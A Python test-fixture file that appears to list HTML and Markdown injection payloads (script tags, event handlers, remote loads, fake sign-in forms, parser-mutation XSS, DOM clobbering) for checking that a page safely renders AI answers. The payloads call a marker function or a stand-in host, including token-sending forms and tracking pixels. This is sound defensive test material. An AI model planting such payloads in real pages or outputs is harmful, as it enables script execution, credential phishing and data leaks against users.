# What attackers write is long, and looks like something else.
# ruff: noqa: E501
"""HTML in an answer: each piece would run, load, cover or send something if it became elements."""

from __future__ import annotations

#: What a text of ours would call if it ran; a test looks whether it was called.
RUN = "window.pwned=1"
#: A host that a page must never ask for anything.
HOST = "https://canary.invalid"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={HOST}/x.js></SCRIPT>",
    f"<script\x0ctype=module>{RUN}</script>",
    f"<script/x>{RUN}</script\t>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}",
    f"</p></div></main></body><script>{RUN}</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<!--><script>{RUN}</script>-->",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<?xml-stylesheet href='{HOST}/x.xsl'?><?php {RUN} ?>",
    f"</textarea><script>{RUN}</script>",
    f"</title></style></xmp></noembed></noframes></iframe><script>{RUN}</script>",
    f"<plaintext><script>{RUN}</script>",
    f'<script type=importmap>{{"imports": {{"/page/js/main.js": "{HOST}/x.js"}}}}</script>',
    f'<script type=speculationrules>{{"prefetch": [{{"urls": ["{HOST}/"]}}]}}</script>',
]

HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x:y onerror\n=\n'{RUN}'>",
    f"<IMG\x0bSRC=x\x0cONERROR={RUN}>",
    f"<img/src/onerror={RUN}//>",
    f"<body onload={RUN} onhashchange={RUN} onpageshow={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}>",
    f"<button popovertarget=p onclick={RUN}>press</button><p id=p popover onbeforetoggle={RUN}>x</p>",
    f"<video src=x onerror={RUN}><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN} width=10000>x</marquee>",
    f"<div onpointerover={RUN} onwheel={RUN} style='position:fixed;inset:0;z-index:9999'>x</div>",
    f"<style onload={RUN}>@keyframes x{{}}</style><p style='animation:x 1s' onanimationstart={RUN}>",
    f"<a href=# accesskey=x onclick={RUN} onfocusin={RUN}>here</a>",
    f"<p contenteditable onbeforeinput={RUN} oncut={RUN}>type here</p>",
    f"<p hidden=until-found onbeforematch={RUN}>found</p>",
]

LOADS = [
    f"<img src={HOST}/pixel.png width=1 height=1>",
    f"<img srcset='{HOST}/a.png 1x, {HOST}/b.png 2x'><picture><source srcset={HOST}/c.png></picture>",
    f"<link rel=stylesheet href={HOST}/x.css><link rel=preload as=image href={HOST}/x.png>",
    f"<link rel=dns-prefetch href={HOST}><link rel=icon href={HOST}/favicon.ico>",
    f"<style>@import '{HOST}/x.css'; body {{ background: url({HOST}/bg.png); display: none }}</style>",
    f"<p style=\"background:url('{HOST}/s.png');position:fixed;inset:0\">x</p>",
    f"<style>input[value^=a] {{ background: url({HOST}/a) }}</style>",
    f"<table background={HOST}/t.png><tr><td background={HOST}/u.png>x</table>",
    f"<video poster={HOST}/p.png autoplay src={HOST}/v.mp4></video><audio src={HOST}/a.mp3 autoplay>",
    f"<object data={HOST}/o.swf></object><embed src={HOST}/e.swf>",
    f"<iframe src={HOST}></iframe><frameset><frame src={HOST}></frameset>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<portal src={HOST}></portal><fencedframe src={HOST}></fencedframe>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<meta name=referrer content=unsafe-url><meta name=viewport content='width=5000'>",
    f"<base href={HOST}/><base target=_top>",
    f"<a href={HOST} ping={HOST}/ping download=x.exe>x</a>",
    f"<track src={HOST}/t.vtt default><bgsound src={HOST}/b.wav><image src={HOST}/i.png>",
    f"![pixel]({HOST}/pixel.png)",
    f'![pixel][p]\n\n[p]: {HOST}/pixel.png "title"',
    f"[![pixel]({HOST}/pixel.png)]({HOST}/link)",
    f"![data](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>)",
    "![own](/v1/session) ![own](v1/generations) ![file](file:///etc/passwd)",
]

FORMS = [
    f"<form action={HOST}><input name=token value=secret><button>Sign in</button></form>",
    f"<form action={HOST} id=f></form><button form=f formaction={HOST}>Send</button>",
    f"<form><button formaction='javascript:{RUN}'>x</button></form>",
    "<form action=/v1/session method=post><input name=token></form>",
    "<input type=password name=password autocomplete=current-password><input type=file>",
    "<textarea>what you type here</textarea><select><option>one</select>",
    "<dialog open>Your session has ended. <form method=dialog><button>Sign in</button></form></dialog>",
    f"<isindex action={HOST} prompt=Token><keygen name=k>",
    "<label for=main>click</label><output name=x>1</output><progress></progress>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff'>Sign in</div>",
]

#: Trees that a parser makes into other ones when it reads again what it wrote.
MUTATIONS = [
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href={HOST}/x.js /></svg><svg><script xlink:href=data:,{RUN} /></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,<svg/onload={RUN}>#x /></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>",
    f"<svg><image href={HOST}/i.png /><feImage href={HOST}/f.png /></svg>",
    f'<svg></p><style><a title="</style><img src=x onerror={RUN}>">',
    f"<svg><title><![CDATA[</title><img src=x onerror={RUN}>]]></svg>",
    f"<svg><style><img src='</style><img src=x onerror={RUN}>'></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<math href=javascript:{RUN}>x</math><math><maction actiontype=statusline xlink:href={HOST}>x",
    f"<math><annotation-xml encoding=text/html><style><img src=x onerror={RUN}></style></math>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror={RUN} src>",
    f"<table><td><svg><desc><td><select><img src=x onerror={RUN}></table>",
    f"<select><option><style></option></select><img src=x onerror={RUN}></style>",
    f"<p><a><p><a><p><table><a><tr><a><td></table><img src=x onerror={RUN}>",
    f'<noembed><img title="</noembed><img src=x onerror={RUN}>"></noembed>',
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    f'a<b/title="`<img src=x onerror={RUN}>`">`</b>`',
]

#: Names that a page's own scripts may look up on document or window.
CLOBBERING = [
    "<img name=getElementById><img name=querySelector><img name=body>",
    "<form name=document id=app><input name=children><input name=append></form>",
    "<a id=app></a><div id=main></div><p id=help-title>x</p>",
    "<a id=llcuda href=javascript:1></a><a id=trustedTypes name=createPolicy></a>",
    "<form id=location name=href></form><iframe name=history></iframe>",
    "<object name=fetch></object><embed name=EventSource><img name=caches>",
    "<div id=__proto__ class=constructor></div><input name=__proto__>",
    "<p class='toast bad' role=alert>Your session has ended</p><p class=banner role=status>x</p>",
    "<main class=view><h1>Another view</h1></main><nav class=side aria-label=History>x</nav>",
    "<p aria-live=assertive role=alert>interrupts</p><p aria-hidden=true tabindex=1>x</p>",
    "<slot name=x></slot><div part=x is=x-y data-key=1 data-theme=dark dir=rtl lang=ar>x</div>",
]
